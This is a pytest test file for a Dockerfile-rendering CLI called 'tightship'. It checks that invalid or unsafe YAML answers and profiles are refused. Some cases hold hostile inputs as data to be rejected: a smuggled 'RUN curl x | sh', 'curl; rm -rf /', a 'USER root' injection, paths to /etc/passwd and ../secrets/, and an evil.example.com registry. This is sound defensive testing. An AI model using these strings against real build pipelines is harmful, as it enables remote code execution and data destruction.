"""Bad input: one clear line naming file, line and field; exit 2; nothing written."""

from __future__ import annotations

import textwrap

import pytest
from cli_support import MINIMAL_ANSWERS, run_cli

GOOD = MINIMAL_ANSWERS

# (case id, answers text, expected "line: field" fragment, expected words in the message)
CASES = [
    ("malformed-yaml", GOOD + "ports: [8080\n", ":11:", "invalid YAML"),
    ("duplicate-key", GOOD + "service: again\n", ":10:", "invalid YAML"),
    ("unknown-key", GOOD + "replicas: 3\n", ":10: replicas:", "unknown key 'replicas'"),
    ("unknown-nested-key", GOOD.replace("  http: /healthz", "  http: /healthz\n  path: /x"),
     ":10: healthcheck.path:", "unknown key 'path'"),
    ("wrong-type", GOOD.replace("ports: [8080]", "ports: eighty"), ":7: ports:",
     "expected array"),
    ("port-out-of-range", GOOD.replace("ports: [8080]", "ports: [70000]"), ":7: ports[0]:",
     "70000"),
    ("port-zero", GOOD.replace("ports: [8080]", "ports: [0]"), ":7: ports[0]:", "0"),
    ("duplicate-port", GOOD.replace("ports: [8080]", "ports: [8080, 8080]"), ":7: ports:",
     "non-unique"),
    ("not-a-dns-label", GOOD.replace("service: api", "service: My_API"), ":1: service:",
     "DNS label"),
    ("dns-label-too-long", GOOD.replace("service: api", "service: " + "a" * 64), ":1: service:",
     "DNS label"),
    ("unknown-runtime", GOOD.replace("runtime: python", "runtime: ruby"), ":2: runtime:",
     "not one of"),
    ("version-not-offered", GOOD + "version: '2.7'\n", ":10: version:", "offers python 3.13, 3.14, 3.12-bookworm"),
    ("path-escapes-context", GOOD.replace("sources: [app/]", "sources: [../secrets/]"),
     ":5: build.sources[0]:", "inside the build context"),
    ("absolute-source-path", GOOD.replace("sources: [app/]", "sources: [/etc/passwd]"),
     ":5: build.sources[0]:", "inside the build context"),
    ("newline-in-command", GOOD.replace("command: [python3, -m, app]",
                                        'command: ["python3", "-m", "app\\nRUN curl x | sh"]'),
     ":6: command[2]:", "control character"),
    ("nul-in-command", GOOD.replace("command: [python3, -m, app]", 'command: ["app\\0"]'),
     ":6: command[0]:", "control character"),
    ("newline-in-env", GOOD + 'env:\n  MODE: "a\\nUSER root"\n', ":11: env.MODE:",
     "control character"),
    ("secret-looking-env", GOOD + "env:\n  DB_PASSWORD: hunter2\n", ":11: env.DB_PASSWORD:",
     "looks like a secret"),
    ("well-known-credential-env", GOOD + "env:\n  AWS_ACCESS_KEY_ID: AKIAABCDEFGHIJKLMNOP\n",
     ":11: env.AWS_ACCESS_KEY_ID:", "looks like a secret"),
    ("package-with-shell", GOOD + "packages:\n  run: ['curl; rm -rf /']\n",
     ":11: packages.run[0]:", "not valid"),
    ("label-source-not-https", GOOD + "labels:\n  source: 'http://x\"y'\n",
     ":11: labels.source:", "not valid"),
    ("health-both-kinds", GOOD.replace("  http: /healthz", "  http: /healthz\n  command: [x]"),
     ":8: healthcheck:", "exactly one"),
    ("health-port-not-served", GOOD.replace("  http: /healthz", "  http: /healthz\n  port: 9"),
     ":10: healthcheck.port:", "not one of the service's ports"),
    ("writable-root", GOOD + "writable: [/]\n", ":10: writable[0]:", "read-only"),
    ("writable-etc", GOOD + "writable: [/etc/app]\n", ":10: writable[0]:", "read-only"),
    ("capability-not-allowed", GOOD + "capabilities:\n  SYS_ADMIN: needs mounts\n",
     ":11: capabilities.SYS_ADMIN:", "not allowed"),
    ("limits-above-ceiling", GOOD + "limits:\n  memory: 64Gi\n", ":11: limits.memory:",
     "ceiling"),
    ("missing-command", GOOD.replace("command: [python3, -m, app]\n", ""), ":1: command:",
     "is required"),
    ("java-without-artifact", GOOD.replace("runtime: python", "runtime: java"),
     ":3: build:", "build.command"),
    ("http-probe-on-distroless", GOOD.replace("runtime: python", "runtime: go").replace(
        "dependencies: [requirements.txt]", "dependencies: [go.mod]"),
     ":9: healthcheck.http:", "no HTTP client"),
    ("not-a-mapping", "- just\n- a list\n", ":1:", "mapping"),
    ("volume-in-system-folder", GOOD + "volumes:\n  - {name: data, path: /usr/share/app}\n",
     ":11: volumes[0].path:", "system folder"),
    ("volume-over-workdir", GOOD + "volumes:\n  - {name: data, path: /}\n",
     ":11: volumes[0].path:", "system folder"),
    ("volume-over-writable", GOOD + "writable: [/data]\nvolumes:\n  - {name: d, path: /data/x}\n",
     ":12: volumes[0].path:", "overlaps /data"),
    ("volume-name-twice", GOOD + "volumes:\n  - {name: d, path: /a}\n  - {name: d, path: /b}\n",
     ":12: volumes[1].name:", "used twice"),
    ("volume-with-replicas", GOOD + "volumes:\n  - {name: d, path: /data}\n"
     "run:\n  replicas: 2\n", ":13: run.replicas:", "ReadWriteOnce"),
    ("file-env-not-a-declared-secret", GOOD + "env:\n  DB_PASSWORD_FILE: /run/secrets/db\n",
     ":11: env.DB_PASSWORD_FILE:", "not a declared secret"),
    ("file-env-outside-secrets", GOOD + "secrets: [db]\nenv:\n  DB_PASSWORD_FILE: /etc/db\n",
     ":12: env.DB_PASSWORD_FILE:", "not under /run/secrets/"),
    ("port-below-1024-not-allowed", GOOD.replace("ports: [8080]", "ports: [8080, 443]")
     + "run:\n  publish: {443: 8443}\n", ":7: ports[1]:", "does not allow low ports"),
]


@pytest.mark.parametrize("answers,where,words", [c[1:] for c in CASES],
                         ids=[c[0] for c in CASES])
def test_bad_answers_are_refused_with_file_line_and_field(tmp_path, answers, where, words):
    (tmp_path / "tightship.yaml").write_text(answers)
    # the strict profile does not allow low ports; every other case is bad under either
    profile = "strict" if "443" in answers else "default"
    result = run_cli("render", "--answers", "tightship.yaml", "--out", "out", "--profile",
                     profile, cwd=tmp_path)
    assert result.code == 2, result.out + result.err
    lines = result.err.strip().splitlines()
    assert len(lines) == 1, result.err  # one clear line, no traceback
    assert lines[0].startswith("tightship: error: tightship.yaml:"), lines[0]
    assert where in lines[0] and words in lines[0], lines[0]
    assert not (tmp_path / "out").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tightship.yaml"]


def test_answers_that_break_a_rule_are_refused_by_the_self_check(tmp_path):
    """B12: a shell script that backgrounds a second process never reaches a Dockerfile."""
    (tmp_path / "tightship.yaml").write_text(GOOD.replace(
        "command: [python3, -m, app]", 'command: [sh, -c, "worker & python3 -m app"]'))
    result = run_cli("render", "--out", "out", cwd=tmp_path)
    assert result.code == 2
    lines = result.err.strip().splitlines()
    assert len(lines) == 1
    assert "Dockerfile:" in lines[0] and "TS-B12" in lines[0]
    assert not (tmp_path / "out").exists()


def test_bad_set_value_names_the_command_line(tmp_path):
    (tmp_path / "tightship.yaml").write_text(GOOD)
    result = run_cli("render", "--set", "ports=[99999]", cwd=tmp_path)
    assert result.code == 2
    assert result.err.startswith("tightship: error: --set: ports[0]:")


def test_malformed_set_is_refused(tmp_path):
    (tmp_path / "tightship.yaml").write_text(GOOD)
    result = run_cli("render", "--set", "no-equals-sign", cwd=tmp_path)
    assert result.code == 2 and "key=value" in result.err


def test_missing_answers_file(tmp_path):
    result = run_cli("render", "--answers", "nope.yaml", cwd=tmp_path)
    assert result.code == 2
    assert "nope.yaml: answers file not found" in result.err


def _profile(tmp_path, text: str) -> str:
    path = tmp_path / "profile.yaml"
    path.write_text(textwrap.dedent(text))
    return str(path)


PROFILE_CASES = [
    ("unapproved-registry", """\
        name: team
        extends: default
        images:
          python-3.13: {ref: evil.example.com/python:3.13, digest: 'sha256:%s', pinned: '2026-01-01', shell: true, packages: apt}
        """ % ("a" * 64), ":4:", "images.python-3.13.ref", "not from an allowed registry"),
    ("unpinned-image", """\
        name: team
        extends: default
        images:
          python-3.13: {ref: 'python:3.13-slim', pinned: '2026-01-01', shell: true, packages: apt}
        """, ":4:", "images.python-3.13.digest", "is required"),
    ("latest-tag", """\
        name: team
        extends: default
        images:
          python-3.13: {ref: 'python:latest', digest: 'sha256:%s', pinned: '2026-01-01', shell: true, packages: apt}
        """ % ("b" * 64), ":4:", "images.python-3.13.ref", "latest"),
    ("unknown-profile-key", """\
        name: team
        extends: default
        colour: blue
        """, ":3:", "colour", "unknown key"),
    ("missing-parent", """\
        name: team
        extends: ./nowhere.yaml
        """, ":2:", "extends", "not found"),
]


@pytest.mark.parametrize("profile,line,field,words", [c[1:] for c in PROFILE_CASES],
                         ids=[c[0] for c in PROFILE_CASES])
def test_bad_profiles_are_refused_with_file_line_and_field(tmp_path, profile, line, field,
                                                           words):
    (tmp_path / "tightship.yaml").write_text(GOOD)
    path = _profile(tmp_path, profile)
    result = run_cli("render", "--profile", path, "--out", "out", cwd=tmp_path)
    assert result.code == 2, result.out + result.err
    message = result.err.strip()
    assert message.startswith(f"tightship: error: {path}{line} {field}:"), message
    assert words in message, message
    assert not (tmp_path / "out").exists()


def test_profiles_that_extend_each_other_in_a_loop(tmp_path):
    (tmp_path / "a.yaml").write_text("name: a\nextends: ./b.yaml\n")
    (tmp_path / "b.yaml").write_text("name: b\nextends: ./a.yaml\n")
    (tmp_path / "tightship.yaml").write_text(GOOD)
    result = run_cli("render", "--profile", str(tmp_path / "a.yaml"), cwd=tmp_path)
    assert result.code == 2 and "loop" in result.err


def test_unknown_builtin_profile(tmp_path):
    (tmp_path / "tightship.yaml").write_text(GOOD)
    result = run_cli("render", "--profile", "nosuch", cwd=tmp_path)
    assert result.code == 2 and "built-in: default, strict" in result.err
